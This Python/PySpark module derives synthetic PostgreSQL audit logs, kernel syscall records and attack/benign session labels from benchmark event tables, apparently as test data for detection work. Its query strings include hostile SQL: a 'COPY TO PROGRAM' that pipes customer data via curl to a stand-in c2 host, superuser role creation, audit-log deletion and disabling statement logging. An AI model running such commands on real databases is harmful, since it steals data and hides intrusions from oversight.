"""The star-schema tables, and telemetry logs derived from their event stream.

Every row of `events` becomes one audit or kernel record: a user's stretch of
time is a database session, the props number picks statements and processes.
The expressions are plain SQL that other engines run too, so that results can
be checked elsewhere; only the two expressions in ``SPARK`` differ by engine.
"""

from __future__ import annotations

from dataclasses import dataclass

from pyspark.sql import DataFrame, SparkSession

TABLES = (
    "region nation customer supplier part orders lineitem events documents embeddings pages "
    "benchmark labels conversations"
).split()

BASE_US = 1704067200000000  # 2024-01-01 UTC, where the event stream begins

SPARK = {
    "epoch_us": "timestampdiff(MICROSECOND, TIMESTAMP '1970-01-01 00:00:00', ts)",
    "k": "CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT)",
}

# 30 days of stream time are squeezed into six minutes, on a grid of 10 ms so that ties occur
EVENT = {
    "event_id": "event_id",
    "user_id": "user_id",
    "event_type": "event_type",
    "value": "value",
    "k": "{k}",
    "t_us": f"CAST(FLOOR(({{epoch_us}} - {BASE_US}) / 72000000) AS BIGINT) * 10000",
}
STEP = {
    "run_id": "CONCAT('run_', CAST(CAST(FLOOR(user_id / 15) AS BIGINT) AS STRING))",
    "run_no": "CAST(FLOOR(user_id / 15) AS BIGINT)",
    "event_id": "event_id",
    "event_type": "event_type",
    "value": "value",
    "k": "k",
    "t_us": "t_us",
    "user_id": "user_id",
    "quarter": "CAST(FLOOR(t_us / 90000000) AS BIGINT)",
    "backend": "20000 + user_id * 4 + CAST(FLOOR(t_us / 90000000) AS BIGINT)",
    "node": "k % 12",
    "base": "1000000 + user_id * 16",
}

_DML = """CASE k % 8
 WHEN 0 THEN CONCAT('SELECT full_name, national_id FROM customers WHERE customer_id = ', CAST(k % 3 AS STRING))
 WHEN 1 THEN 'SELECT setting FROM pg_settings WHERE name = ''work_mem'''
 WHEN 2 THEN 'SELECT c.full_name FROM customers c JOIN accounts a ON a.customer_id = c.customer_id'
 WHEN 3 THEN 'SELECT table_name FROM information_schema.tables WHERE table_schema = ''public'''
 WHEN 4 THEN CONCAT('INSERT INTO transactions (account_id, amount) VALUES (', CAST(k AS STRING), ', 10.5)')
 WHEN 5 THEN CONCAT('UPDATE accounts SET balance = balance - 1 WHERE account_id = ', CAST(k % 4 AS STRING))
 WHEN 6 THEN 'DELETE FROM audit_logs WHERE logged_at < ''2024-01-01'''
 ELSE 'SELECT count(*) FROM branches UNION SELECT count(*) FROM accounts' END"""
_UTILITY = """CASE k % 10
 WHEN 0 THEN CONCAT('COPY (SELECT * FROM accounts) TO PROGRAM ''gzip > /tmp/out_', CAST(k AS STRING), '.gz''')
 WHEN 1 THEN 'COPY (SELECT ''it''''s'', id FROM customers) TO PROGRAM ''curl -sX POST https://c2.example.net/d -H ''''a: b'''' -d @-'''
 WHEN 2 THEN CONCAT('CREATE ROLE svc_', CAST(k AS STRING), ' SUPERUSER LOGIN PASSWORD ''no SUPERUSER here''')
 WHEN 3 THEN CASE WHEN k % 4 = 3 THEN 'ALTER ROLE branch_manager WITH NOSUPERUSER' ELSE 'ALTER ROLE branch_manager WITH SUPERUSER' END
 WHEN 4 THEN 'TRUNCATE TABLE audit_logs'
 WHEN 5 THEN 'ALTER SYSTEM SET log_statement = ''none'''
 WHEN 6 THEN 'SET ROLE auditor'
 WHEN 7 THEN CONCAT('DROP TABLE IF EXISTS public.staging_', CAST(k AS STRING))
 WHEN 8 THEN 'COPY accounts FROM PROGRAM ''cat /tmp/in.csv'''
 ELSE CASE WHEN k % 4 = 1 THEN '' ELSE 'SELECT x FROM (SELECT 1 AS x) s' END END"""

AUDIT_WHERE = "event_type IN ('view', 'purchase')"
AUDIT = {
    "run_id": "run_id",
    "pos": "event_id",
    "session_id": "backend",
    "session_start_time": f"CAST(FLOOR(({BASE_US} + quarter * 90000000) / 1000000) AS BIGINT)",
    "backend_pid": "backend",
    "timestamp": f"CAST({BASE_US} + t_us AS DOUBLE) / 1000000",
    "event_type": "CASE WHEN event_type = 'view' THEN 'ExecutorStart' WHEN k % 3 = 0 "
    "THEN 'ExecutorEnd' WHEN k % 3 = 1 THEN 'ProcessUtility' ELSE NULL END",
    "query": f"CASE WHEN event_type = 'view' OR k % 3 = 0 THEN {_DML} ELSE {_UTILITY} END",
    "database": "CAST('bank' AS STRING)",
    "username": "CONCAT('user_', CAST(user_id % 7 AS STRING))",
    "client_addr": "CONCAT('192.168.1.', CAST(user_id % 50 AS STRING))",
    "client_port": "CAST(backend AS STRING)",
}

KERNEL_WHERE = "event_type IN ('click', 'error', 'signup')"
KERNEL = {
    "run_id": "run_id",
    "pos": "event_id",
    "pid": "base + node",
    "ppid": "CASE WHEN k % 17 = 0 THEN 0 WHEN node = 0 OR value > 150 THEN backend "
    "WHEN user_id % 2 = 0 THEN base + node - 1 "
    "ELSE base + CAST(FLOOR((node - 1) / 2) AS BIGINT) END",
    "uid": "user_id % 7",
    "timestamp": "(t_us + 5000000) * 1000 + run_no * 1000000000",
    "comm": "CASE k % 4 WHEN 0 THEN 'sh' WHEN 1 THEN 'gzip' WHEN 2 THEN 'curl' ELSE 'cat' END",
    "syscall": "CASE event_type WHEN 'click' THEN 'execve' WHEN 'signup' THEN 'connect' "
    "ELSE CASE k % 3 WHEN 0 THEN 'openat' WHEN 1 THEN 'unlink' ELSE 'rename' END END",
    "arg": "CASE WHEN event_type = 'error' THEN CONCAT('/tmp/f_', CAST(k % 6 AS STRING)) "
    "ELSE CONCAT('run --job ', CAST(k % 9 AS STRING)) END",
    "dest_ip": "CASE WHEN event_type = 'signup' AND k % 5 > 0 "
    "THEN CONCAT('203.0.113.', CAST(k % 10 AS STRING)) ELSE NULL END",
    "dest_port": "CASE WHEN event_type = 'signup' AND k % 5 > 0 THEN 443 + k % 2 ELSE NULL END",
}

# Runs 3, 10, 17, … have no LOGGING_START and fall back to the boot time of the time sync.
TIME_SYNC = {
    "run_id": "run_id",
    "server_boot_unix_time": f"CAST({BASE_US} - 5000000 - run_no * 1000000 AS DOUBLE) / 1000000",
}
CONTROL = {
    "run_id": "run_id",
    "marker": "CAST('LOGGING_START' AS STRING)",
    "timestamp": f"CAST({BASE_US} + MIN(t_us) + 250000 AS DOUBLE) / 1000000",
    "pos": "CAST(-1 AS BIGINT)",
}

LABEL = {
    "run_id": "run_id",
    "session_id": "backend",
    "label": "CASE WHEN backend % 5 < 2 THEN CASE WHEN backend % 2 = 0 THEN 'Attack' "
    "ELSE ' malicious ' END ELSE 'Benign' END",
    "template": "CONCAT(CASE WHEN backend % 5 < 2 THEN 'bank_mal_' ELSE 'bank_ben_' END, "
    "CAST((backend * 7) % 13 AS STRING))",
}


@dataclass(frozen=True)
class Capture:
    """The raw logs of many runs."""

    kernel: DataFrame
    audit: DataFrame
    control: DataFrame
    time_sync: DataFrame


def table(spark: SparkSession, folder: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{folder}/{name}.parquet")


def _cols(spec: dict[str, str], **text) -> list[str]:
    return [f"{e.format(**text) if text else e} AS `{n}`" for n, e in spec.items()]


def steps(spark: SparkSession, folder: str) -> DataFrame:
    events = table(spark, folder, "events")
    return events.selectExpr(*_cols(EVENT, **SPARK)).selectExpr(*_cols(STEP))


def capture(spark: SparkSession, folder: str) -> Capture:
    s = steps(spark, folder)
    kernel_steps = s.where(KERNEL_WHERE)
    runs = kernel_steps.groupBy("run_id", "run_no").agg({"t_us": "min"})
    runs = runs.withColumnRenamed("min(t_us)", "t_us")
    return Capture(
        kernel=kernel_steps.selectExpr(*_cols(KERNEL)),
        audit=s.where(AUDIT_WHERE).selectExpr(*_cols(AUDIT)),
        control=runs.where("run_no % 7 <> 3").selectExpr(
            *_cols({**CONTROL, "timestamp": CONTROL["timestamp"].replace("MIN(t_us)", "t_us")})
        ),
        time_sync=runs.selectExpr(*_cols(TIME_SYNC)),
    )


def session_labels(spark: SparkSession, folder: str) -> DataFrame:
    """Label rows of the sessions; one in eleven has none, and some have a blank session id."""
    return (
        steps(spark, folder)
        .where("backend % 11 <> 0")
        .selectExpr(*_cols(LABEL))
        .distinct()
    )


def oracle_ctes() -> str:
    """The same derivation as SQL common table expressions."""
    duck = {
        "epoch_us": "epoch_us(ts)",
        "k": "CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT)",
    }

    def cols(spec, **text):
        return ", ".join(
            f'{e.format(**text) if text else e} AS "{n}"' for n, e in spec.items()
        )

    return f"""ev AS (SELECT {cols(EVENT, **duck)} FROM events),
steps AS (SELECT {cols(STEP)} FROM ev),
kernel AS (SELECT {cols(KERNEL)} FROM steps WHERE {KERNEL_WHERE}),
audit AS (SELECT {cols(AUDIT)} FROM steps WHERE {AUDIT_WHERE}),
control AS (SELECT {cols(CONTROL)} FROM steps
  WHERE {KERNEL_WHERE} AND run_no % 7 <> 3 GROUP BY run_id),
time_sync AS (SELECT DISTINCT {cols(TIME_SYNC)} FROM steps WHERE {KERNEL_WHERE}),
labels_of_sessions AS (SELECT DISTINCT {cols(LABEL)} FROM steps WHERE backend % 11 <> 0)"""
